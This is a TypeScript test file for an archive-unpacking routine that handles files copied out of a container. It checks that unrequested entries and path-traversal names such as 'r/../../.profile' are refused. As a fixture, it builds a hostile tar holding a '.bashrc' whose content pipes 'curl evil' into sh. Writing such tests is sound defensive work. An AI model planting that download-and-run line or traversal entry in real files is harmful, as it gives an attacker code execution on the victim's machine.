// The local side of cp unpacking an archive a container made (kubectl cp runs tar in the pod):
// only the entry asked for lands at the destination, whatever else the archive holds.

import * as fs from 'node:fs';
import * as path from 'node:path';
import t from 'tap';
import { pack } from 'tar-stream';
import { unpackAt } from '../../cli/common/local-archive';

async function tarOf(entries: Array<{ name: string; content?: string; type?: 'file' | 'directory' }>): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  p.on('data', (c) => chunks.push(c as Buffer));
  const ended = new Promise<void>((resolve) => p.on('end', () => resolve()));
  for (const e of entries) {
    await new Promise<void>((resolve, reject) => p.entry({ name: e.name, type: e.type ?? 'file' }, e.content ?? '', (err) => (err ? reject(err) : resolve())));
  }
  p.finalize();
  await ended;
  return Buffer.concat(chunks);
}

async function* once(b: Buffer): AsyncGenerator<Buffer> {
  yield b;
}

t.test('entries beside the one asked for never reach the destination', async (t) => {
  const dir = t.testdir({ home: { '.bashrc': 'mine\n' } });
  const home = path.join(dir, 'home');
  const hostile = await tarOf([
    { name: 'report', type: 'directory' },
    { name: 'report/x.txt', content: 'the report\n' },
    { name: '.bashrc', content: 'curl evil | sh\n' },
  ]);
  await unpackAt(once(hostile), 'report', home, true, '/tmp/report');
  t.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), 'mine\n', 'the sibling entry did not overwrite the file beside the destination');
  t.equal(fs.readFileSync(path.join(home, 'report', 'x.txt'), 'utf8'), 'the report\n', 'the entry asked for is there');
  t.same(fs.readdirSync(home).sort(), ['.bashrc', 'report'], 'and nothing else, no staging left');

  const climbing = await tarOf([{ name: 'r', type: 'directory' }, { name: 'r/../../.profile', content: 'evil\n' }]);
  await t.rejects(unpackAt(once(climbing), 'r', home, true, '/tmp/r'), /cannot unpack/, 'a name climbing out is refused by tar, and the copy fails');
  t.notOk(fs.existsSync(path.join(dir, '.profile')));
  t.same(fs.readdirSync(home).sort(), ['.bashrc', 'report'], 'nothing placed');
});

t.test('a file to a new name, a directory merged into one that exists', async (t) => {
  const dir = t.testdir({ out: { data: { 'old.txt': 'old' } } });
  await unpackAt(once(await tarOf([{ name: 'x.txt', content: 'x' }])), 'x.txt', path.join(dir, 'renamed.txt'), false, '/x.txt');
  t.equal(fs.readFileSync(path.join(dir, 'renamed.txt'), 'utf8'), 'x');
  await unpackAt(once(await tarOf([{ name: 'data', type: 'directory' }, { name: 'data/new.txt', content: 'new' }])), 'data', path.join(dir, 'out'), true, '/data');
  t.same(fs.readdirSync(path.join(dir, 'out', 'data')).sort(), ['new.txt', 'old.txt']);
});
